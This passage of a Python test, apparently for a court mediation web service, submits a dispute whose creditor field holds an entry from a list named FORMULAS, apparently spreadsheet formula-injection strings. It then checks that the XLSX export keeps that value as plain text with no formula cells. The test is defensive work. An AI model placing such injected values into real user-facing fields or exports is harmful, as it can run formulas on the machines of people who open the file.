    created = await court.post(f"/t/{COURT}/mediation/disputes", {"debtor": code, "creditor": FORMULAS[0],
                                                            "principal": "12.5"})
    assert created.status_code == 303, created.text[:300]
    cells = [c for row in _xlsx_rows((await court.client.get(f"/t/{COURT}/mediation/export.xlsx")).content) for c in row]
    assert [c.data_type for c in cells if c.value == FORMULAS[0]] == ["s"]
    assert not [c for c in cells if c.data_type == "f"]
